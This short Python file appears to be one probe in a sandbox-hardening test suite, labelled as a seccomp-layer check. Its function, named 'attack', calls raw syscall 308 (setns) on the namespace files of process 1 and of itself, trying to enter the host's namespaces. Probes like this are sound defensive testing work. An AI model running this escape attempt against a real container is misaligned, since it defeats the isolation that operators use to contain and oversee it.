"""setns into the namespaces of process 1 and of itself.

layer: seccomp
"""
import os

from tools import attempt, first, syscall


def enter(path):
    descriptor = os.open(path, os.O_RDONLY)
    return syscall(308, descriptor, 0)


def attack():
    kinds = ("user", "mnt", "net", "pid", "ipc", "uts")
    return first(*(attempt(enter, f"/proc/{who}/ns/{kind}") for who in ("self", "1") for kind in kinds))
